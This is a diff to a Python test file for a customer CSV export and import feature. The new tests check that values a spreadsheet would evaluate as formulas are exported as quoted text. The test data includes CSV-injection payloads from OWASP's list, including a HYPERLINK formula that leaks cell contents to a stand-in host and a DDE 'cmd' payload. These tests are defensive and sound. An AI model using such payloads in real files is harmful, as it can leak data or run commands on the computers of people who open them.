@@ -14,7 +14,22 @@ from cli.main import app as cli
 from domain.auth.principals import Role
 from domain.config import AppConfig
 from domain.customers import service as customer_service
-from tests.conftest import Api, Workspace, add_key, create_customer, record_order, run_worker
+from tests.conftest import Api, Workspace, add_key, create_customer, make_workspace, record_order, run_worker
+
+# What spreadsheets run as formulas (OWASP's CSV injection list, and the full-width forms some locales
+# evaluate), including the signed-number forms that phone numbers used to be spared for.
+FORMULAS = (
+    '+1+HYPERLINK("http://x.example/?leak="&A2,"open")',
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "@SUM(A1:A9)",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+)
+PROFILE_COLUMNS = ("external_id", "name", "legal_type", "company_name", "phone", "email", "city", "region",
+                   "country", "gender", "birth_date", "income_band", "tags", "interests")  # fmt: skip
 
 
 def _export(api: Api, token: str | None, **params: str | list[str]) -> tuple[int, str]:
@@ -43,7 +58,7 @@ def test_an_export_streams_every_customer_with_classes_scores_and_stats(
     assert [row["name"] for row in rows] == ["Nguyễn Thị Lan", "王小明", '\'=HYPERLINK("http://x")']
     first = rows[0]
     assert (first["phone"], first["city"], first["tags"], first["net_spend"]) == (
-        "+84912345678",
+        "'+84912345678",
         "Hà Nội",
         "vip",
         "6500000",
@@ -85,3 +100,39 @@ def test_the_cli_exports_a_segment_to_a_file(
     result = CliRunner().invoke(cli, ["export", shop.id, "--out", str(out)])
     assert result.exit_code == 0, result.output
     assert {row["name"] for row in _rows(out.read_text(encoding="utf-8"))} == {"Khách Huế", "Khách Vinh"}
+
+
+def test_every_cell_a_spreadsheet_would_evaluate_is_exported_as_quoted_text(api: Api, shop: Workspace) -> None:
+    for index, formula in enumerate(FORMULAS):
+        create_customer(api, shop.admin, name=formula, city=formula, phone=f"09123456{index:02d}")
+    _, text = _export(api, shop.admin)
+    rows = _rows(text)
+    assert sorted(row["name"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
+    assert all(row["city"] == row["name"] for row in rows)
+    # Phones are E.164 (+84...), which a spreadsheet would also evaluate: they get the same prefix.
+    assert sorted(row["phone"] for row in rows) == [f"'+849123456{index:02d}" for index in range(len(FORMULAS))]
+    assert '"\'+84912345600"' in text and "\"'-2+3+cmd|' /C calc'!A0\"" in text  # quoted, as OWASP advises
+
+
+def test_our_import_reads_back_what_our_export_writes(api: Api, shop: Workspace, config: AppConfig) -> None:
+    create_customer(api, shop.admin, name='=HYPERLINK("http://x")', externalId="KH-1", phone="0912345678",
+                    city="'Huế", tags=["+vip", "zalo"], birthDate="1990-05-01", gender="FEMALE")  # fmt: skip
+    create_customer(api, shop.admin, name="'=already quoted", externalId="KH-2", phone="+86 138 0013 8000",
+                    email="wang@example.cn", companyName="@Công ty, TNHH", legalType="COMPANY")  # fmt: skip
+    create_customer(api, shop.admin, name="-Trần Văn Bình", externalId="KH-3", interests=["＝váy", "giày"])
+    _, exported = _export(api, shop.admin)
+    other = make_workspace(api, "Another shop")
+    response = api.client.post("/import/customers.csv", content=exported.encode(),
+                               headers={"Authorization": f"Bearer {other.admin}"})  # fmt: skip
+    assert response.status_code == 202, response.text
+    run_worker(config)
+    job = api.ok("query($id: ID!) { importJob(id: $id) { status imported failed problem errors { row message } } }",
+                 {"id": response.json()["id"]}, other.admin)["importJob"]  # fmt: skip
+    assert job == {"status": "completed", "imported": 3, "failed": 0, "problem": None, "errors": []}
+
+    def profiles(token: str) -> list[tuple[str, ...]]:
+        return sorted(tuple(row[column] for column in PROFILE_COLUMNS) for row in _rows(_export(api, token)[1]))
+
+    assert profiles(other.admin) == profiles(shop.admin)
+    names = {row["external_id"]: row["name"] for row in _rows(_export(api, other.admin)[1])}
+    assert names == {"KH-1": '\'=HYPERLINK("http://x")', "KH-2": "''=already quoted", "KH-3": "'-Trần Văn Bình"}
